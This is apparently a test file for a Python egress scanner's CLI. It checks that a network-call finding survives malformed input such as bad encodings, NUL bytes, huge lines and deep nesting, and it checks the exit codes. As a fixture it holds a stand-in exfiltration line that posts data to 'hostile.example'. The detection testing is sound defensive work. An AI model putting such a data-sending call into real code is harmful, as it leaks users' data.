// Broken and hostile Python source through the whole CLI: odd encodings, NUL bytes, a 10 MB single line and
// 100k nested parentheses are analysed (or listed as partial) without a crash; exit codes follow --fail-on.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { FileReport } from '../../src/model/result.ts';
import { runCli, scanJson } from './run-cli.ts';

const FIXTURES = fileURLToPath(new URL('../../fixtures/rules/', import.meta.url));
const CALL = 'requests.post("https://hostile.example/in", data=b"x")';
let dir: string;

function write(name: string, content: string | Uint8Array): string {
  writeFileSync(join(dir, name), content);
  return name;
}

async function onlyFile(name: string): Promise<FileReport> {
  const { code, result } = await scanJson(name, dir);
  assert.ok(code === 0 || code === 1, `exit ${code}`);
  assert.equal(result.summary.errors, 0);
  return result.targets[0].files[0];
}

function networkCall(file: FileReport) {
  return file.findings.find((f) => f.rule === 'egress-network-call');
}

describe('hostile and broken source', () => {
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pyguard-hostile-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('invalid UTF-8 bytes are replaced, noted as partial, and the code around them is analysed', async () => {
    const bytes = Buffer.concat([Buffer.from('import requests\nNAME = "'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(`"\n${CALL}\n`)]);
    const file = await onlyFile(write('bad_utf8.py', bytes));
    assert.ok(file.partial);
    assert.ok(file.partialReasons?.some((reason) => /UTF-8/.test(reason)));
    assert.equal(networkCall(file)?.line, 3);
    assert.equal(networkCall(file)?.destination?.host, 'hostile.example');
  });

  test('a UTF-8 BOM is skipped and lines keep their numbers', async () => {
    const file = await onlyFile(write('bom.py', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`import requests\n\n${CALL}\n`)])));
    assert.equal(file.partial, false);
    assert.equal(networkCall(file)?.line, 3);
    assert.equal(networkCall(file)?.code, CALL);
  });

  test('CRLF line endings give the same lines and code as LF', async () => {
    const file = await onlyFile(write('crlf.py', `import requests\r\n\r\n\r\n${CALL}\r\n`));
    assert.equal(file.partial, false);
    assert.equal(networkCall(file)?.line, 4);
    assert.equal(networkCall(file)?.code, CALL);
  });

  test('NUL bytes are noted as partial and do not hide the call after them', async () => {
    const file = await onlyFile(write('nul.py', `import requests\nx = 1\u0000\u0000\n${CALL}\n`));
    assert.ok(file.partial);
    assert.ok(file.partialReasons?.some((reason) => /NUL/.test(reason)));
    assert.ok(file.egress);
  });

  test('a latin-1 coding cookie decodes the file as latin-1', async () => {
    const bytes = Buffer.concat([Buffer.from('# -*- coding: latin-1 -*-\nimport requests\nGREETING = "caf'), Buffer.from([0xe9]), Buffer.from(`"\n${CALL}\n`)]);
    const file = await onlyFile(write('latin1.py', bytes));
    assert.equal(file.partial, false, JSON.stringify(file.partialReasons));
    assert.equal(networkCall(file)?.line, 4);
  });

  test('a 10 MB single-line file (an embedded blob) is analysed to the end', async () => {
    const blob = 'QUJD'.repeat((10 * 1024 * 1024) / 4);
    const file = await onlyFile(write('huge_blob.py', `import requests; BLOB = "${blob}"; ${CALL}\n`));
    assert.ok(file.size >= 10 * 1024 * 1024);
    assert.equal(networkCall(file)?.line, 1);
    assert.equal(networkCall(file)?.destination?.host, 'hostile.example');
  });

  test('a 1 MB single line of 150 000 statements is analysed to the end', async () => {
    const filler = 'x = 1; '.repeat(150_000);
    const file = await onlyFile(write('long_line.py', `import requests; ${filler}${CALL}\n`));
    assert.equal(networkCall(file)?.line, 1);
  });

  test('100 000 nested parentheses do not crash the analysis', async () => {
    const depth = 100_000;
    const file = await onlyFile(write('deep.py', `import requests\nvalue = ${'('.repeat(depth)}1${')'.repeat(depth)}\n${CALL}\n`));
    assert.equal(file.kind, 'python');
    assert.ok(file.verdict);
  });

  test('100 000 unclosed parentheses are a partial file, not a crash', async () => {
    const file = await onlyFile(write('unclosed.py', `value = ${'('.repeat(100_000)}\n`));
    assert.ok(file.partial);
  });
});

describe('scan exit codes', () => {
  test('0 when nothing reaches --fail-on (default high)', async () => {
    const run = await runCli(['scan', 'egress/requests_post.py', '--json'], FIXTURES);
    assert.equal(run.code, 0);
  });

  test('1 when the risk reaches --fail-on', async () => {
    assert.equal((await runCli(['scan', 'egress/requests_post.py', '--json', '--fail-on', 'low'], FIXTURES)).code, 1);
    assert.equal((await runCli(['scan', 'flow/env_to_requests.py', '--json'], FIXTURES)).code, 1);
  });

  test('2 with a one-line message for a path that does not exist', async () => {
    const run = await runCli(['scan', 'no/such/file.py'], FIXTURES);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /^pyguard: scan: no\/such\/file\.py: no such file or folder\n$/);
    assert.equal(run.stdout, '');
  });

  test('2 with a one-line message for a bad --fail-on level', async () => {
    const run = await runCli(['scan', 'egress/requests_post.py', '--fail-on', 'severe'], FIXTURES);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /^pyguard: .*--fail-on.*'severe'.*\n$/);
  });
});
